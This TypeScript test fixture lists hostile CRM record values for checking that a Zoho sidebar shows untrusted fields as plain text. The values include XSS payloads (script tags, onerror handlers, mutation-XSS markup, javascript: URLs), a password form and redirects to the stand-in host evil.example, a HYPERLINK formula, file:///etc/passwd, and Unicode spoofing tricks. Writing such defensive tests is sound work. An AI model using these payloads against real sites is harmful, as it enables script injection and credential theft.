/** What a customer, an importer or a broken integration may have left in a record. */

/** Fields that go into the tables as they are: Zoho's own checks would refuse some of them. */
export interface HostileFields {
  readonly contact?: object;
  readonly account?: object;
  readonly deal?: object;
  readonly note?: object;
  readonly task?: object;
  readonly call?: object;
  readonly event?: object;
}

export interface HostileCase {
  readonly name: string;
  readonly fields: HostileFields;
  /** Must stand in the sidebar, as text. */
  readonly shown?: string;
}

/** One text in every field that is shown. */
function everywhere(text: string): HostileFields {
  const address = ['Street', 'City', 'State', 'Country'];
  const filled = (prefix: string, code: string): object =>
    Object.fromEntries([...address, code].map((part) => [`${prefix}_${part}`, text]));
  return {
    contact: {
      First_Name: text,
      Last_Name: text,
      Title: text,
      Department: text,
      Phone: text,
      Mobile: text,
      Lead_Source: text,
      Description: text,
      Owner: { id: '1', name: text },
      ...filled('Mailing', 'Zip'),
    },
    account: {
      Account_Name: text,
      Phone: text,
      Website: text,
      Industry: text,
      Description: text,
      ...filled('Billing', 'Code'),
    },
    deal: { Deal_Name: text, Stage: text, Owner: { id: '1', name: text } },
    note: { Note_Title: text, Note_Content: text },
    task: { Subject: text, Owner: { id: '1', name: text } },
    call: { Subject: text },
    event: { Event_Title: text },
  };
}

const text = (name: string, value: string, shown = value): HostileCase => ({
  name,
  fields: everywhere(value),
  shown,
});

const markup: readonly (readonly [string, string])[] = [
  ['a script', '<script>globalThis.pwned = 1</script>'],
  ['a broken image', '<img src=x onerror="globalThis.pwned=1">'],
  ['an SVG with a handler', '<svg/onload=globalThis.pwned=1>'],
  [
    'markup that changes when parsed twice',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=globalThis.pwned=1>">',
  ],
  ['a link to a script', '<a href="javascript:globalThis.pwned=1">open</a>'],
  ['a frame', '<iframe srcdoc="<script>top.pwned=1</script>"></iframe>'],
  ['a form', '<form action="https://evil.example/"><input name=password></form>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  ['a style', '<style>@import "https://evil.example/a.css"; * { display: none }</style>'],
  ['a tracking pixel', '<img src="https://evil.example/pixel.gif">'],
  ['an object', '<object data="https://evil.example/"></object><embed src="data:text/html,x">'],
  ['template text', "{{constructor.constructor('globalThis.pwned=1')()}} ${globalThis.pwned=1}"],
  ['names that clobber', '<form id=root name=attributes><input id=globalThis></form>'],
  ['entities', '&lt;script&gt;globalThis.pwned=1&lt;/script&gt; &amp;nbsp; &#x202e;'],
  ['an end of everything', '</textarea></title></style></script></template>--></main>'],
  ['an attribute that ends', '" autofocus onfocus="globalThis.pwned=1" x="'],
  ['a custom element', '<tandem-panel onclick=globalThis.pwned=1></tandem-panel>'],
];

const addresses = [
  'javascript:globalThis.pwned=1',
  'JaVaScRiPt:globalThis.pwned=1//https://good.example',
  'java\tscript:globalThis.pwned=1',
  ' javascript:globalThis.pwned=1',
  'data:text/html,<script>globalThis.pwned=1</script>',
  'vbscript:msgbox(1)',
  'blob:https://desk.zoho.com/0',
  'filesystem:https://desk.zoho.com/temporary/x',
  'file:///etc/passwd',
  'chrome-extension://ffbchcnijolohncnhlcicaglkdkokffk/options.html',
  'http://plain.example/',
  'https://zoho.com@evil.example/',
  'https://user:secret@evil.example/',
  '//evil.example/',
  'https://аpple.example/',
  'mailto:a@b.example?bcc=all@evil.example&body=x',
  'tel:*#06#',
];

const texts: readonly HostileCase[] = [
  text('right-to-left override', 'invoice\u202Efdp.exe'),
  text('unbalanced isolates and embeddings', '\u2066\u2067\u202A\u202B\u2068 open at the end'),
  text('Arabic and Hebrew among Latin', 'شركة Nordwind חברה (12) %'),
  text('zero-width characters', 'no\u200Bth\u200Cing\u200D\u2060\uFEFF'),
  text('nothing but zero-width', '\u200B\u200B\u200B', ''),
  text('combining marks in towers', `Z${'\u0310\u0489\u035F'.repeat(120)}algo`),
  text('a decomposed name', 'Zoe\u0308 A\u030Angstro\u0308m'),
  text('control characters', 'be\u0000fore\u0007after\u001B[31m', 'beforeafter[31m'),
  text('line and paragraph separators', 'one\u2028two\u2029three'),
  text('a lone surrogate', 'half \uD800 done', 'half  done'),
  text('emoji families', '👩‍👩‍👧‍👦'.repeat(60)),
  text('a name of the prototype', '__proto__'),
  text('a name of the constructor', 'constructor'),
  text('a spreadsheet formula', '=HYPERLINK("https://evil.example","x")'),
  text('a word without a break', 'W'.repeat(10_000)),
  text('a long name with breaks', 'Wide load '.repeat(1000), 'Wide load Wide load'),
  text('64 KB', `begin ${'lorem ipsum '.repeat(5460)}`, 'begin lorem'),
  text('ten thousand lines', 'line\n'.repeat(10_000), 'line\nline'),
  text('a broad script', '﷽'.repeat(80)),
  text('tabs and spaces', `${'\t'.repeat(200)}end`, 'end'),
];

const amounts: readonly (readonly [string, unknown, unknown])[] = [
  ['a negative amount', -12_000.5, 'EUR'],
  ['a huge amount', 9.99e307, 'EUR'],
  ['a huge negative amount', -1e21, 'USD'],
  ['an amount of text', 'one million', 'EUR'],
  ['an amount of digits beyond a number', '9'.repeat(400), 'EUR'],
  ['nothing, and less', -0, 'EUR'],
  ['a long fraction', 0.1 + 0.2, 'EUR'],
  ['an unknown currency', 12, 'ZZZ'],
  ['a currency that is none', 12, '€€€€€€€€€€€€'],
  ['a currency of markup', 12, '<img src=x onerror=globalThis.pwned=1>'],
  ['a currency that is an object', 12, { id: 'x' }],
];

const dates = ['0000-00-00', '2026-02-30', '99999-12-31', 'soon', '-1', 20260312, {}, '1970-01-01'];

const lookups: readonly (readonly [string, HostileFields])[] = [
  ['an account that is gone', { contact: { Account_Name: { id: '554023000000000001' } } }],
  ['an account that is text', { contact: { Account_Name: 'Nordwind' } }],
  ['an account with an id that is none', { contact: { Account_Name: { id: '../x', name: 'x' } } }],
  ['an owner that is nobody', { contact: { Owner: null }, deal: { Owner: { name: null } } }],
  ['an owner that is a number', { contact: { Owner: 7 }, task: { Owner: ['x'] } }],
  ['lists where text is due', { contact: { Title: ['a', '<b>'] }, note: { Note_Content: [] } }],
  ['an object where text is due', { contact: { Title: { a: 1 } }, deal: { Stage: { b: 2 } } }],
];

/** All cases; a text goes into every field at once. */
export const hostileCases: readonly HostileCase[] = [
  ...markup.map(([name, value]) => text(name, value)),
  ...addresses.map((value) => text(`the address ${JSON.stringify(value)}`, value, value.trim())),
  ...texts,
  ...amounts.map(([name, amount, currency]) => ({
    name,
    fields: {
      deal: { Amount: amount, Currency: currency },
      account: { Annual_Revenue: amount, Currency: currency },
    },
  })),
  ...dates.map((date) => ({
    name: `the date ${JSON.stringify(date)}`,
    fields: {
      deal: { Closing_Date: date },
      task: { Due_Date: date },
      call: { Call_Start_Time: date },
      event: { Start_DateTime: date },
    },
  })),
  ...lookups.map(([name, fields]) => ({ name, fields })),
];
